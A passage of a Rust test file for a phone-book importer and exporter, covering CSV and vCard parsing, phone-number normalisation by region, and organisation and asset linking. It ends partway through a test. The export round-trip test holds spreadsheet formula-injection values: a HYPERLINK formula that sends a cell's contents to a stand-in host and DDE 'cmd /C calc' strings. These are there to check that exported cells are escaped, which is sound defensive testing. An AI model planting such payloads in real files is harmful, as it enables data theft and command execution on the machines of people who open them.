//! The phone book's import and export, scenario by scenario, on SQLite and on PostgreSQL (see
//! tests/common), and `switchdesk phonebook import|export` as an operator runs it.

#[macro_use]
mod common;

use std::collections::HashMap;
use std::path::Path;
use std::process::{Command, Output};

use common::{TestDb, TestDbRef};
use switchdesk::directory::export::export;
use switchdesk::directory::import::{
    import, ColumnMap, Format, ImportError, ImportReport, Kind, Progress,
};
use switchdesk::directory::model::{Asset, Contact, Id, Number, NumberKind, Organization, Owner};
use switchdesk::directory::number::Numbering;
use switchdesk::store::{Record, Store};

on_both_backends!(
    a_csv_with_broken_rows_keeps_every_good_one,
    numbers_are_read_the_way_the_region_dials_them,
    importing_again_updates_in_place,
    vcards_3_and_4_are_imported,
    organizations_are_found_or_created_by_name_and_external_id,
    assets_are_linked_to_their_owners,
    export_then_import_gives_the_same_records,
    unknown_columns_are_ignored_with_one_warning,
    common_header_names_and_several_phone_columns_are_read,
    a_column_map_names_the_columns_and_a_bad_map_is_refused,
    a_row_with_an_invalid_number_is_stored_without_it,
    the_example_files_import_as_the_readme_says,
);

async fn import_text(store: &Store, region: &str, text: &str, format: Format) -> ImportReport {
    import_kind(store, region, text, format, None).await
}

async fn import_kind(
    store: &Store,
    region: &str,
    text: &str,
    format: Format,
    kind: Option<Kind>,
) -> ImportReport {
    let numbering = Numbering::new(region).unwrap();
    import_with(store, &numbering, text, format, kind, &ColumnMap::default())
        .await
        .unwrap()
}

async fn import_with(
    store: &Store,
    numbering: &Numbering,
    text: &str,
    format: Format,
    kind: Option<Kind>,
    map: &ColumnMap,
) -> Result<ImportReport, ImportError> {
    let mut seen = Vec::new();
    let mut seen_warnings = Vec::new();
    let report = import(
        store,
        numbering,
        text.as_bytes(),
        format,
        kind,
        map,
        &mut |progress: Progress<'_>| {
            seen.extend_from_slice(progress.new_failures);
            seen_warnings.extend_from_slice(progress.new_warnings);
        },
    )
    .await?;
    // Every failure and warning passes the progress callback once, in order, and lands in
    // the report.
    assert_eq!(seen, report.failures);
    assert_eq!(seen_warnings, report.warnings);
    assert_eq!(report.rows, report.saved + report.failed);
    assert!(report.warned <= report.saved);
    Ok(report)
}

/// (line, reason) of each failed row.
fn failures(report: &ImportReport) -> Vec<(u64, &str)> {
    report
        .failures
        .iter()
        .map(|f| (f.line, f.reason.as_str()))
        .collect()
}

/// Each warning as the report prints it: `line N: reason`.
fn warnings(report: &ImportReport) -> Vec<String> {
    report.warnings.iter().map(|w| w.to_string()).collect()
}

async fn contact(store: &Store, external_id: &str) -> Contact {
    store
        .record_by_external_id::<Contact>(external_id)
        .await
        .unwrap()
        .unwrap_or_else(|| panic!("contact {external_id} is stored"))
}

async fn organization(store: &Store, external_id: &str) -> Organization {
    store
        .record_by_external_id::<Organization>(external_id)
        .await
        .unwrap()
        .unwrap_or_else(|| panic!("organization {external_id} is stored"))
}

async fn all<R: Record>(store: &Store) -> Vec<R> {
    store.records_after::<R>(0, 10_000).await.unwrap()
}

fn numbers(record_numbers: &[Number]) -> Vec<(&str, NumberKind)> {
    record_numbers
        .iter()
        .map(|n| (n.number.as_str(), n.kind))
        .collect()
}

const HEADER: &str = "external_id,first_name,last_name,aliases,organization,organization_id,phones,emails,vip,priority,language,notes\n";

async fn a_csv_with_broken_rows_keeps_every_good_one(db: TestDbRef) {
    let store = db.store;
    let rows = [
        // 2-3: a note over two lines
        "c-1,Иван,Петров,Vanya; Ivan Petrov,ООО «Ромашка»,,mobile:8 916 123-45-67; work:8 (495) 123-45-67,ivan@romashka.example,yes,2,ru,\"Prefers mornings.\nCalls about \"\"invoices\"\"\"",
        "c-2,James,Bond,,,,\"mobile:+44 7400 123456; work:0044 20 7946 0018\",,no,,en-GB,",
        "c-3,Carol,White,,,,work:+1 (212) 555-0142,,,,,",
        "c-4,Oleg,Sidorov,,,,sip:+74951234567@carrier.example;user=phone;transport=tls,,,,,",
        // 7: one of two numbers is not a number: saved without it
        "c-5,Petr,Orlov,,,,work:8 495 765-43-21; mobile:call me,,,,,",
        // 8: no name at all
        "c-6,,,,,,8 495 111-22-33,,,,,",
        // 9: a quote that never closes
        "c-7,\"Anna,Smirnova,,,,,,,,,",
        "c-8,Maria,Ivanova,,,,8 (343) 123-45-67,,,,,",
        // 11: a column too many
        "c-9,Nikolai,Popov,,,,,,,,,,surplus",
        // 12: not a yes or a no
        "c-10,Vera,Volkova,,,,,,maybe,,,",
        "c-11,Ольга,Кузнецова,,ООО «Ромашка»,,+7 (495) 123-45-68,,,,,",
    ];
    let text = format!("{HEADER}{}\n", rows.join("\n"));
    let report = import_text(&store, "RU", &text, Format::Auto).await;

    assert_eq!(report.kind, Kind::Contacts);
    let failed = failures(&report);
    assert_eq!(
        failed.iter().map(|f| f.0).collect::<Vec<_>>(),
        [8, 9, 11, 12],
        "{failed:#?}"
    );
    assert_eq!(failed[0].1, "a contact needs a first or last name");
    assert!(
        failed[1].1.starts_with("unbalanced quote"),
        "{}",
        failed[1].1
    );
    assert_eq!(failed[2].1, "13 fields, but the header has 12 columns");
    assert_eq!(
        failed[3].1,
        "vip: \"maybe\" is not yes/no, true/false or 1/0"
    );
    assert_eq!(
        warnings(&report),
        ["line 7: phones: no digits in \"call me\""]
    );
    assert_eq!(
        (
            report.rows,
            report.saved,
            report.failed,
            report.warned,
            report.created,
            report.updated
        ),
        (11, 7, 4, 1, 7, 0)
    );
    assert_eq!(report.organizations_created, 1);
    assert_eq!(store.count_records::<Contact>().await.unwrap(), 7);
    assert_eq!(
        numbers(&contact(&store, "c-5").await.numbers),
        [("+74957654321", NumberKind::Work)]
    );

    let ivan = contact(&store, "c-1").await;
    assert_eq!(
        (ivan.first_name.as_str(), ivan.last_name.as_str()),
        ("Иван", "Петров")
    );
    assert_eq!(ivan.aliases, ["Vanya", "Ivan Petrov"]);
    assert_eq!(
        numbers(&ivan.numbers),
        [
            ("+79161234567", NumberKind::Mobile),
            ("+74951234567", NumberKind::Work)
        ]
    );
    assert_eq!(ivan.emails, ["ivan@romashka.example"]);
    assert!(ivan.vip);
    assert_eq!(ivan.priority, 2);
    assert_eq!(ivan.language.as_deref(), Some("ru"));
    assert_eq!(ivan.notes, "Prefers mornings.\nCalls about \"invoices\"");
    let romashka = store
        .record::<Organization>(ivan.organization_id.expect("linked"))
        .await
        .unwrap();
    assert_eq!(romashka.name, "ООО «Ромашка»");
    assert_eq!(
        contact(&store, "c-11").await.organization_id,
        Some(romashka.id)
    );

    assert_eq!(
        numbers(&contact(&store, "c-2").await.numbers),
        [
            ("+447400123456", NumberKind::Mobile),
            ("+442079460018", NumberKind::Work)
        ]
    );
    assert_eq!(
        contact(&store, "c-2").await.language.as_deref(),
        Some("en-GB")
    );
    assert_eq!(
        numbers(&contact(&store, "c-3").await.numbers),
        [("+12125550142", NumberKind::Work)]
    );
    assert_eq!(
        numbers(&contact(&store, "c-4").await.numbers),
        [("+74951234567", NumberKind::Work)]
    );
    // The row after the broken quote was not swallowed by it.
    let maria = contact(&store, "c-8").await;
    assert_eq!(maria.first_name, "Maria");
    assert_eq!(
        numbers(&maria.numbers),
        [("+73431234567", NumberKind::Work)]
    );
    for broken in ["c-6", "c-7", "c-9", "c-10"] {
        assert!(store
            .record_by_external_id::<Contact>(broken)
            .await
            .unwrap()
            .is_none());
    }
}

async fn numbers_are_read_the_way_the_region_dials_them(db: TestDbRef) {
    let store = db.store;
    let uk = "external_id,first_name,phones\nuk-1,Emma,020 7946 0018; mobile:07400 123456; other:+44 (0)20 7946 0019\n";
    assert_eq!(import_text(&store, "GB", uk, Format::Csv).await.saved, 1);
    let us = "external_id,first_name,phones\nus-1,Carol,1 (212) 555-0142; mobile:212.555.0199\n";
    assert_eq!(import_text(&store, "US", us, Format::Csv).await.saved, 1);
    let ru = "external_id,first_name,phones\nru-1,Иван,8 (495) 123-45-67; mobile:+7 916 123 45 67; 8 343 123-45-67\n";
    assert_eq!(import_text(&store, "RU", ru, Format::Csv).await.saved, 1);
    assert_eq!(
        numbers(&contact(&store, "uk-1").await.numbers),
        [
            ("+442079460018", NumberKind::Work),
            ("+447400123456", NumberKind::Mobile),
            ("+442079460019", NumberKind::Other)
        ]
    );
    assert_eq!(
        numbers(&contact(&store, "us-1").await.numbers),
        [
            ("+12125550142", NumberKind::Work),
            ("+12125550199", NumberKind::Mobile)
        ]
    );
    assert_eq!(
        numbers(&contact(&store, "ru-1").await.numbers),
        [
            ("+74951234567", NumberKind::Work),
            ("+79161234567", NumberKind::Mobile),
            ("+73431234567", NumberKind::Work)
        ]
    );
}

async fn importing_again_updates_in_place(db: TestDbRef) {
    let store = db.store;
    let first = format!(
        "{HEADER}c-1,Иван,Петров,,Romashka,,8 916 123-45-67,,,,,\n\
         c-2,Anna,Smirnova,,Romashka,,8 495 123-45-67,,,,,\n\
         c-3,Oleg,Sidorov,,,,,,,,,\n"
    );
    let report = import_text(&store, "RU", &first, Format::Csv).await;
    assert_eq!((report.saved, report.created, report.updated), (3, 3, 0));
    let report = import_text(&store, "RU", &first, Format::Csv).await;
    assert_eq!((report.saved, report.created, report.updated), (3, 0, 3));
    assert_eq!(report.organizations_created, 0);
    assert_eq!(store.count_records::<Contact>().await.unwrap(), 3);
    assert_eq!(store.count_records::<Organization>().await.unwrap(), 1);
    let anna_id = contact(&store, "c-2").await.id;

    let edited = first.replace(
        "c-2,Anna,Smirnova,,Romashka,,8 495 123-45-67,,,,,",
        "c-2,Anna,Kuznetsova,,Romashka,,8 495 765-43-21,,yes,,,",
    );
    let report = import_text(&store, "RU", &edited, Format::Csv).await;
    assert_eq!((report.saved, report.created, report.updated), (3, 0, 3));
    assert_eq!(store.count_records::<Contact>().await.unwrap(), 3);
    let anna = contact(&store, "c-2").await;
    assert_eq!(anna.id, anna_id);
    assert_eq!(anna.last_name, "Kuznetsova");
    assert!(anna.vip);
    assert_eq!(numbers(&anna.numbers), [("+74957654321", NumberKind::Work)]);
}

async fn vcards_3_and_4_are_imported(db: TestDbRef) {
    let store = db.store;
    let cards = [
        "BEGIN:VCARD",
        "VERSION:3.0",
        "N:Smith;John;Quincy;Dr.;",
        "FN:Dr. John Q. Smith",
        "NICKNAME:Johnny,J\\, Q",
        "ORG:Acme\\, Inc.;Sales",
        "item1.TEL;TYPE=cell,voice:+1 (212) 555-01",
        " 42",
        "TEL;TYPE=WORK:212.555.0199",
        "EMAIL;TYPE=INTERNET:john@acme.example",
        "NOTE:Met at the fair\\nprefers e-mail\\; never calls before 10",
        "PHOTO;ENCODING=b;TYPE=JPEG:MIICajCCAdOgAwIBAgICBEUwDQYJKoZIhvcNAQEEBQAwdzELMAkGA1UEBhMCVVMx",
        " LDAqBgNVBAoTI05ldHNjYXBlIENvbW11bmljYXRpb25zIENvcnBvcmF0aW9uMRww",
        "UID:crm-17",
        "END:VCARD",
        "BEGIN:VCARD",
        "VERSION:4.0",
        "FN:Анна Смирнова",
        "N:Смирнова;Анна;;;",
        "TEL;VALUE=uri;TYPE=\"voice,cell\";PREF=1:tel:+7-916-123-45-67",
        "TEL;VALUE=uri;TYPE=work:tel:+1-212-555-0100;ext=12",
        "ORG:Acme\\, Inc.",
        "LANG;PREF=1:ru",
        "LANG;PREF=2:en",
        "UID:urn:uuid:4fbe8971-0bc3-424c-9c26-36c3e1eff6b1",
        "END:VCARD",
        "BEGIN:VCARD",
        "VERSION:3.0",
        "FN:",
        "TEL:+1 212 555 0111",
        "END:VCARD",
        "BEGIN:VCARD",
        "VERSION:2.1",
        "N;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:=D0=9F=D0=B5=D1=82=D1=80=D0=BE=D0=B2;=D0=98=D0=B2=D0=B0=D0=BD",
        "TEL;CELL:+7 916 765 43 21",
        "END:VCARD",
    ]
    .map(|line| format!("{line}\r\n"))
    .concat();
    let report = import_text(&store, "US", &cards, Format::Auto).await;
    assert_eq!(report.kind, Kind::Contacts);
    assert_eq!(
        failures(&report),
        [(27, "a contact needs a first or last name")]
    );
    assert_eq!(
        (report.rows, report.saved, report.organizations_created),
        (4, 3, 1)
    );

    let john = contact(&store, "crm-17").await;
    assert_eq!(
        (john.first_name.as_str(), john.last_name.as_str()),
        ("John Quincy", "Smith")
    );
    assert_eq!(john.aliases, ["Johnny", "J, Q"]);
    assert_eq!(
        numbers(&john.numbers),
        [
            ("+12125550142", NumberKind::Mobile),
            ("+12125550199", NumberKind::Work)
        ]
    );
    assert_eq!(john.emails, ["john@acme.example"]);
    assert_eq!(
        john.notes,
        "Met at the fair\nprefers e-mail; never calls before 10"
    );
    let acme = store
        .record::<Organization>(john.organization_id.expect("linked to its ORG"))
        .await
        .unwrap();
    assert_eq!(acme.name, "Acme, Inc.");

    let anna = contact(&store, "urn:uuid:4fbe8971-0bc3-424c-9c26-36c3e1eff6b1").await;
    assert_eq!(anna.last_name, "Смирнова");
    assert_eq!(
        numbers(&anna.numbers),
        [
            ("+79161234567", NumberKind::Mobile),
            ("+12125550100", NumberKind::Work)
        ]
    );
    assert_eq!(anna.language.as_deref(), Some("ru"));
    assert_eq!(anna.organization_id, Some(acme.id));

    let petrov = all::<Contact>(&store)
        .await
        .into_iter()
        .find(|c| c.external_id.is_none())
        .expect("the card without UID");
    assert_eq!(
        (petrov.first_name.as_str(), petrov.last_name.as_str()),
        ("Иван", "Петров")
    );
    assert_eq!(report.without_external_id, 1);
}

async fn organizations_are_found_or_created_by_name_and_external_id(db: TestDbRef) {
    let store = db.store;
    let organizations = "external_id,name,phones,emails,fax_mailboxes,vip,priority,notes\n\
        org-1,Acme Corp,main:+1 212 555 0100; range:+1 212 555 01; fax:+1 212 555 0190,info@acme.example,fax@acme.example,yes,3,\n\
        org-2,Twin,,,,,,\n\
        org-3,Twin,,,,,,\n";
    let report = import_text(&store, "US", organizations, Format::Csv).await;
    assert_eq!((report.kind, report.saved), (Kind::Organizations, 3));
    let acme = organization(&store, "org-1").await;
    assert_eq!(
        numbers(&acme.numbers),
        [
            ("+12125550100", NumberKind::Main),
            ("+121255501", NumberKind::Range),
            ("+12125550190", NumberKind::Fax)
        ]
    );
    assert_eq!(acme.fax_mailboxes, ["fax@acme.example"]);
    assert!(acme.vip);
    assert_eq!(acme.priority, 3);

    let contacts = "first_name,last_name,organization,organization_id\n\
        Al,One,,org-1\n\
        Bo,Two,Acme Corp,\n\
        Cy,Three,Globex,\n\
        Di,Four,Globex,\n\
        Ed,Five,Initech,ini-9\n\
        Flo,Six,,ini-9\n\
        Gus,Seven,,nobody-1\n\
        Hal,Eight,Twin,\n";
    let report = import_text(&store, "US", contacts, Format::Csv).await;
    assert_eq!(report.saved, 6);
    assert_eq!(report.organizations_created, 2);
    let failed = failures(&report);
    assert_eq!(failed.iter().map(|f| f.0).collect::<Vec<_>>(), [8, 9]);
    assert!(failed[0].1.contains("\"nobody-1\""), "{}", failed[0].1);
    assert_eq!(
        failed[1].1,
        "2 organizations are named \"Twin\"; name one by its external id"
    );

    let names = |contacts: Vec<Contact>| -> Vec<String> {
        contacts.into_iter().map(|c| c.last_name).collect()
    };
    assert_eq!(
        names(store.contacts_of_organization(acme.id).await.unwrap()),
        ["One", "Two"]
    );
    let all_organizations = all::<Organization>(&store).await;
    let globex: Vec<&Organization> = all_organizations
        .iter()
        .filter(|o| o.name == "Globex")
        .collect();
    assert_eq!(globex.len(), 1, "one Globex, created once");
    assert_eq!(
        names(store.contacts_of_organization(globex[0].id).await.unwrap()),
        ["Four", "Three"]
    );
    let initech = organization(&store, "ini-9").await;
    assert_eq!(initech.name, "Initech");
    assert_eq!(
        names(store.contacts_of_organization(initech.id).await.unwrap()),
        ["Five", "Six"]
    );
}

async fn assets_are_linked_to_their_owners(db: TestDbRef) {
    let store = db.store;
    import_text(
        &store,
        "US",
        "external_id,name\norg-1,Acme Corp\n",
        Format::Csv,
    )
    .await;
    import_text(
        &store,
        "US",
        "external_id,first_name\nc-1,Carol\n",
        Format::Csv,
    )
    .await;
    let assets = "external_id,name,type,serial,location,owner_contact,owner_organization,notes\n\
        a-1,Laptop,laptop,SN1,Room 1,c-1,,\n\
        a-2,Core switch,switch,SN2,DC,,org-1,\n\
        a-3,Printer,printer,SN3,Hall,,Acme Corp,\n\
        a-4,Spare,server,SN4,Store,,,kept for parts\n\
        a-5,Ghost,server,SN5,,c-404,,\n\
        a-6,Shared,server,SN6,,c-1,org-1,\n\
        a-7,Orphan,server,SN7,,,Nobody Inc,\n";
    let report = import_text(&store, "US", assets, Format::Csv).await;
    assert_eq!((report.kind, report.saved), (Kind::Assets, 4));
    assert_eq!(
        failures(&report),
        [
            (6, "owner_contact: no contact has the external id \"c-404\""),
            (
                7,
                "owner_contact and owner_organization are both set; an asset has one owner"
            ),
            (
                8,
                "owner_organization: no organization has the external id or name \"Nobody Inc\""
            ),
        ]
    );
    let carol = contact(&store, "c-1").await;
    let acme = organization(&store, "org-1").await;
    let names =
        |assets: Vec<Asset>| -> Vec<String> { assets.into_iter().map(|a| a.name).collect() };
    assert_eq!(
        names(store.assets_of(Owner::Contact(carol.id)).await.unwrap()),
        ["Laptop"]
    );
    assert_eq!(
        names(store.assets_of(Owner::Organization(acme.id)).await.unwrap()),
        ["Core switch", "Printer"]
    );
    let spare = store
        .record_by_external_id::<Asset>("a-4")
        .await
        .unwrap()
        .unwrap();
    assert_eq!(spare.owner, Owner::Nobody);
    assert_eq!(
        (
            spare.kind.as_str(),
            spare.serial.as_str(),
            spare.location.as_str(),
            spare.notes.as_str()
        ),
        ("server", "SN4", "Store", "kept for parts")
    );

    // An owner the export cannot name: the asset is written, the link is reported.
    let keyless = store
        .save_record(&Contact {
            first_name: "Nobody's".into(),
            last_name: "Keyless".into(),
            ..Contact::default()
        })
        .await
        .unwrap();
    store
        .save_record(&Asset {
            external_id: Some("a-8".into()),
            name: "Desk phone".into(),
            owner: Owner::Contact(keyless),
            ..Asset::default()
        })
        .await
        .unwrap();
    let mut out = Vec::new();
    let report = export(&store, Kind::Assets, &mut out).await.unwrap();
    assert_eq!(report.rows, 5);
    assert_eq!(report.warnings.len(), 1);
    assert!(
        report.warnings[0].contains("Desk phone") && report.warnings[0].contains("no external id"),
        "{:?}",
        report.warnings
    );
    assert!(String::from_utf8(out)
        .unwrap()
        .contains("\"a-8\",\"Desk phone\",\"\",\"\",\"\",\"\",\"\",\"\"\n"));
}

/// Every record with its ids replaced by what the export writes for them.
async fn snapshot(store: &Store) -> Vec<String> {
    let organizations = all::<Organization>(store).await;
    let contacts = all::<Contact>(store).await;
    let organization_names: HashMap<Id, String> = organizations
        .iter()
        .map(|o| (o.id, o.name.clone()))
        .collect();
    let contact_keys: HashMap<Id, Option<String>> = contacts
        .iter()
        .map(|c| (c.id, c.external_id.clone()))
        .collect();
    let mut lines = Vec::new();
    for organization in organizations {
        lines.push(format!(
            "{:?}",
            Organization {
                id: 0,
                ..organization
            }
        ));
    }
    for contact in contacts {
        let organization = contact.organization_id.map(|id| &organization_names[&id]);
        let contact = Contact {
            id: 0,
            organization_id: None,
            ..contact
        };
        lines.push(format!("{contact:?} of {organization:?}"));
    }
    for asset in all::<Asset>(store).await {
        let owner = match asset.owner {
            Owner::Nobody => "nobody".to_owned(),
            Owner::Contact(id) => format!("contact {:?}", contact_keys[&id]),
            Owner::Organization(id) => format!("organization {:?}", organization_names[&id]),
        };
        let asset = Asset {
            id: 0,
            owner: Owner::Nobody,
            ..asset
        };
        lines.push(format!("{asset:?} owned by {owner}"));
    }
    lines
}

async fn export_all(store: &Store) -> Vec<(Kind, String)> {
    let mut files = Vec::new();
    for kind in [Kind::Organizations, Kind::Contacts, Kind::Assets] {
        let mut out = Vec::new();
        let report = export(store, kind, &mut out).await.unwrap();
        assert!(report.warnings.is_empty(), "{:?}", report.warnings);
        files.push((kind, String::from_utf8(out).unwrap()));
    }
    files
}

async fn export_then_import_gives_the_same_records(db: TestDbRef) {
    let store = db.store;
    import_text(
        &store,
        "RU",
        "external_id,name,phones,emails,fax_mailboxes,vip,priority,notes\n\
         org-1,ООО «Ромашка»,8 495 123-00-00; range:8 495 123; fax:8 495 123-00-99,info@romashka.example,fax@romashka.example; fax2@romashka.example,yes,5,\"Key account, \"\"gold\"\"\"\n\
         ,Без кода,8 343 000-00-00,,,no,0,\n\
         org-3,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",,,,no,0,@SUM(1+1)*cmd|' /C calc'!A0\n",
        Format::Csv,
    )
    .await;
    let contacts = format!(
        "{HEADER}c-1,Иван,Петров,Vanya; Ivan Petrov,,org-1,mobile:8 916 123-45-67; home:8 495 111-22-33; work:+78121234567,ivan@romashka.example,yes,-1,ru,\"multi\nline, with comma\"\n\
         c-2,James,Bond,,Без кода,,sip:+442079460018@sbc.example;user=phone,,no,0,en-GB,\n\
         ,Nameless,Keyless,,,,other:+1 212 555 0142,,,,,\n\
         c-3,-1+1,''=quoted already,,,,+7 916 000-00-01,,no,-2,,+cmd|' /C calc'!A0\n"
    );
    import_text(&store, "RU", &contacts, Format::Csv).await;
    import_text(
        &store,
        "RU",
        "external_id,name,type,serial,location,owner_contact,owner_organization,notes\n\
         a-1,Laptop,laptop,SN1,Room 1,c-1,,\n\
         a-2,Router,router,SN2,DC,,org-1,\n\
         a-3,Fax machine,fax,SN3,Hall,,Без кода,\"paper jam\"\n\
         a-4,Spare,server,SN4,,,,\n",
        Format::Csv,
    )
    .await;
    let before = snapshot(&store).await;
    assert_eq!(before.len(), 3 + 4 + 4);
    let exported = export_all(&store).await;
    // Cells a spreadsheet would run are written as text; numbers are left as they are.
    let (organizations, contacts) = (&exported[0].1, &exported[1].1);
    for guarded in [
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1",
        "\"'@SUM(1+1)*cmd|' /C calc'!A0\"",
    ] {
        assert!(
            organizations.contains(guarded),
            "{guarded} in {organizations}"
        );
    }
    for guarded in [
        "\"'-1+1\"",
        "\"''=quoted already\"",
        "\"'+cmd|' /C calc'!A0\"",
        "\"-2\"",
    ] {
        assert!(contacts.contains(guarded), "{guarded} in {contacts}");
    }

    // Empty the book, then read it back from the export.
    for asset in all::<Asset>(&store).await {
        store.delete_record::<Asset>(asset.id).await.unwrap();
    }
    for contact in all::<Contact>(&store).await {
        store.delete_record::<Contact>(contact.id).await.unwrap();
    }
    for organization in all::<Organization>(&store).await {
        store
            .delete_record::<Organization>(organization.id)
            .await
            .unwrap();
    }
    for (kind, text) in &exported {
        let report = import_kind(&store, "RU", text, Format::Csv, Some(*kind)).await;
        assert_eq!(report.failed, 0, "{:?}", report.failures);
        assert_eq!(report.organizations_created, 0);
    }
    assert_eq!(snapshot(&store).await, before);
    assert_eq!(export_all(&store).await, exported);
    let contacts = &exported[1].1;
    assert!(
        contacts.contains("mobile:+79161234567; home:+74951112233; work:+78121234567"),
        "{contacts}"
    );
}

/// Read in Russia, with Britain and the USA as the other regions a national form may be from.
fn ru_gb_us() -> Numbering {
    Numbering::with_regions(Some("RU"), &["GB", "US"]).unwrap()
}

async fn unknown_columns_are_ignored_with_one_warning(db: TestDbRef) {
    let store = db.store;
    let text = "external_id,first_name,last_name,Shoe Size,phones,Favourite Colour\n\
                c-1,Ivan,Petrov,44,+7 916 123-45-67,green\n\
                c-2,Anna,Smirnova,38,,blue\n";
    let report = import_text(&store, "RU", text, Format::Csv).await;
    assert_eq!(report.ignored_columns, ["Shoe Size", "Favourite Colour"]);
    assert_eq!((report.saved, report.failed, report.warned), (2, 0, 0));
    assert!(report.warnings.is_empty());
    let ivan = contact(&store, "c-1").await;
    assert_eq!(ivan.last_name, "Petrov");
    assert_eq!(numbers(&ivan.numbers), [("+79161234567", NumberKind::Work)]);
    // An organization file with a contact's columns: those are ignored too, and named.
    let text = "name,first_name,phones\nAcme,Ivan,+1 212 555 0100\n";
    let report = import_kind(&store, "US", text, Format::Csv, Some(Kind::Organizations)).await;
    assert_eq!(report.ignored_columns, ["first_name"]);
    assert_eq!(report.saved, 1);
}

async fn common_header_names_and_several_phone_columns_are_read(db: TestDbRef) {
    let store = db.store;
    // An iTop Person export: `name` is the last name, `org_id` the organization's iTop id.
    let itop = "\"id\",\"first_name\",\"name\",\"org_id\",\"org_name\",\"email\",\"phone\",\"mobile_phone\",\"function\"\n\
                \"7\",\"Claude\",\"Monet\",\"2\",\"Demo\",\"claude@demo.example\",\"+33 1 42 68 53 00\",\"+33 6 12 34 56 78\",\"Service desk\"\n";
    let report = import_text(&store, "RU", itop, Format::Auto).await;
    assert_eq!(report.kind, Kind::Contacts);
    assert_eq!(report.ignored_columns, ["function"]);
    assert_eq!((report.saved, report.organizations_created), (1, 1));
    let claude = contact(&store, "7").await;
    assert_eq!(
        (claude.first_name.as_str(), claude.last_name.as_str()),
        ("Claude", "Monet")
    );
    assert_eq!(claude.emails, ["claude@demo.example"]);
    assert_eq!(
        numbers(&claude.numbers),
        [
            ("+33142685300", NumberKind::Work),
            ("+33612345678", NumberKind::Mobile)
        ]
    );
    let demo = organization(&store, "2").await;
    assert_eq!(demo.name, "Demo");
    assert_eq!(claude.organization_id, Some(demo.id));

    // Other systems' names, in any case and spelling; every phone column with its kind.
    let text = "ID,Given Name,Surname,Company,E-Mail,Work Phone,Cell,Fax,IPPhone,Home Phone,Telephone\n\
                p-1,Anna,Smirnova,Romashka,anna@romashka.example,8 495 123-45-67,8 916 123-45-67,8 495 123-45-99,1001,8 495 111-22-33,work:8 495 123-45-68\n";
    let report = import_text(&store, "RU", text, Format::Csv).await;
    assert_eq!(report.kind, Kind::Contacts);
    assert!(report.ignored_columns.is_empty(), "{report:?}");
    assert_eq!(report.saved, 1, "{report:?}");
    let anna = contact(&store, "p-1").await;
    assert_eq!(
        (anna.first_name.as_str(), anna.last_name.as_str()),
        ("Anna", "Smirnova")
    );
    assert_eq!(anna.emails, ["anna@romashka.example"]);
    assert_eq!(
        numbers(&anna.numbers),
        [
            ("+74951234567", NumberKind::Work),
            ("+79161234567", NumberKind::Mobile),
            ("+74951234599", NumberKind::Fax),
            ("1001", NumberKind::Extension),
            ("+74951112233", NumberKind::Home),
            ("+74951234568", NumberKind::Work)
        ]
    );
    let romashka = store
        .record::<Organization>(anna.organization_id.expect("linked by name"))
        .await
        .unwrap();
    assert_eq!(romashka.name, "Romashka");

    // An organization file by its common names: a bare phone is the switchboard.
    let text = "Organisation,Phone,Mail\nInitech,+1 212 555 0100,info@initech.example\n";
    let report = import_text(&store, "US", text, Format::Csv).await;
    assert_eq!((report.kind, report.saved), (Kind::Organizations, 1));
    let initech = all::<Organization>(&store)
        .await
        .into_iter()
        .find(|o| o.name == "Initech")
        .expect("Initech is stored");
    assert_eq!(
        numbers(&initech.numbers),
        [("+12125550100", NumberKind::Main)]
    );
    assert_eq!(initech.emails, ["info@initech.example"]);
}

async fn a_column_map_names_the_columns_and_a_bad_map_is_refused(db: TestDbRef) {
    let store = db.store;
    let text = "Kennung,Vorname,Nachname,Firma,Handy,Mail\n\
                d-1,Hans,Müller,Globex,+49 151 23456789,hans@globex.example\n";
    let map: ColumnMap = "kennung=external_id,vorname=first_name,nachname=last_name,firma=organization,handy=phones:mobile"
        .parse()
        .unwrap();
    let report = import_with(&store, &ru_gb_us(), text, Format::Csv, None, &map)
        .await
        .unwrap();
    assert_eq!((report.kind, report.saved), (Kind::Contacts, 1));
    // `Mail` is a common name for emails; the map need not name it.
    assert!(report.ignored_columns.is_empty(), "{report:?}");
    let hans = contact(&store, "d-1").await;
    assert_eq!(
        (hans.first_name.as_str(), hans.last_name.as_str()),
        ("Hans", "Müller")
    );
    assert_eq!(
        numbers(&hans.numbers),
        [("+4915123456789", NumberKind::Mobile)]
    );
    assert_eq!(hans.emails, ["hans@globex.example"]);
    // The map comes before the names the importer knows: here `mail` holds the notes.
    let map: ColumnMap = "email=emails,mail=notes,phone=phones,company=organization"
        .parse()
        .unwrap();
    let text = "external_id,first_name,email,mail,phone,company\n\
                d-2,Eva,eva@globex.example,call after 10,+49 30 1234567,Globex\n";
    let report = import_with(&store, &ru_gb_us(), text, Format::Csv, None, &map)
        .await
        .unwrap();
    assert_eq!(report.saved, 1, "{report:?}");
    let eva = contact(&store, "d-2").await;
    assert_eq!(eva.notes, "call after 10");
    assert_eq!(eva.emails, ["eva@globex.example"]);
    assert_eq!(eva.organization_id, hans.organization_id);

    // A target that is no column: refused before anything is read.
    let refused = "email=mailboxes".parse::<ColumnMap>().unwrap_err();
    assert!(
        refused
            .to_string()
            .starts_with("column map: \"mailboxes\" is not a column; the columns are:"),
        "{refused}"
    );
    // A column of another kind: refused at the header, before any row is read.
    let map: ColumnMap = "box=serial".parse().unwrap();
    let refused = import_with(
        &store,
        &ru_gb_us(),
        "external_id,first_name,box\nd-3,Otto,12\n",
        Format::Csv,
        None,
        &map,
    )
    .await
    .unwrap_err();
    assert_eq!(
        refused.to_string(),
        "the column map names serial, which contacts do not have; their columns are: \
         external_id, first_name, last_name, aliases, organization, organization_id, phones, \
         emails, vip, priority, language, notes"
    );
    assert!(store
        .record_by_external_id::<Contact>("d-3")
        .await
        .unwrap()
        .is_none());
}

async fn a_row_with_an_invalid_number_is_stored_without_it(db: TestDbRef) {
    let store = db.store;
    let text = "external_id,first_name,last_name,phones,mobile,emails,vip\n\
                n-1,Ivan,Petrov,8 495 123-45-67; 12345678,+7 916 123-45-67,ivan@example.ru,yes\n\
                n-2,Anna,Smirnova,+7 495 765-43-21,12,,no\n\
                n-3,,,12345678,,,no\n";
    let report = import_with(
        &store,
        &ru_gb_us(),
        text,
        Format::Csv,
        None,
        &ColumnMap::default(),
    )
    .await
    .unwrap();
    assert_eq!(
        (report.rows, report.saved, report.warned, report.failed),
        (3, 2, 2, 1),
        "{report:?}"
    );
    assert_eq!(
        warnings(&report),
        [
            "line 2: phones: \"12345678\" is not a valid number for RU, GB, US",
